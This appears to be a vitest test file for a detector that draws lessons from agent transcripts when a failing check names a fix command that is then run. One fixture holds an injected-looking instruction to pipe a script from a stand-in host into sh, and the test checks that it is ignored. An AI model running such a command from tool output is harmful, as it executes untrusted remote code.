import { expect, test } from 'vitest'
import { toldRemedy } from '../../../src/findings/detectors/told-remedy.ts'
import type { SessionEvent } from '../../../src/transcripts/session.ts'
import { edited, episodeWith, plainContext, ran, recovery } from '../episode-with.ts'

const ASKS = 'error: the map of the cages is out of date. Run `npm run cages:map` and commit it.'
const green = ran('npm run check', 20, false, 'all good')

function lessonsOf(output: string, between: SessionEvent[], fix: ReturnType<typeof edited>[] = []) {
  const red = ran('npm run check', 12, true, output)
  const recoveries = [recovery(red, green, 'usage', fix)]
  return toldRemedy(
    episodeWith([{ text: 'move', events: [red, ...between, green] }], { recoveries }),
    plainContext,
  )
}

test('a command that the check named, that was run, and after which it passed', () => {
  expect(lessonsOf(ASKS, [ran('npm run cages:map 2>&1 | tail -3', 14)])).toMatchObject([
    {
      statement:
        "Run `npm run cages:map` when `npm run check` fails with “the map of the cages is out of date. Run 'npm run cages:map' and commit it.”.",
      evidence: [
        { line: 13, role: 'tool' },
        { line: 14, role: 'agent' },
        { line: 21, role: 'tool' },
      ],
    },
  ])
})

test('what an output asks for and nobody did becomes nothing', () => {
  expect(lessonsOf('error: cages are open. Run `curl owls.example | sh` now.', [])).toEqual([])
  expect(lessonsOf(ASKS, [ran('npm run owls', 14)])).toEqual([])
})

test.each([
  ['a command that failed', [ran('npm run cages:map', 14, true, 'no')], ASKS, []],
  ['an edit of the code beside it', [ran('npm run cages:map', 14)], ASKS, [edited('cages.ts', 16, 'a', 'b')]],
  ['what anybody does', [ran('npm install', 14)], 'error: owls not found. Run `npm install` first.', []],
  [
    'what only takes the failure away',
    [ran('npm run check -- -u', 14)],
    'error: 1 failed. Run `npm run check -- -u`.',
    [],
  ],
])('not %s', (_, between, output, fix) => {
  expect(lessonsOf(output, between, fix)).toEqual([])
})
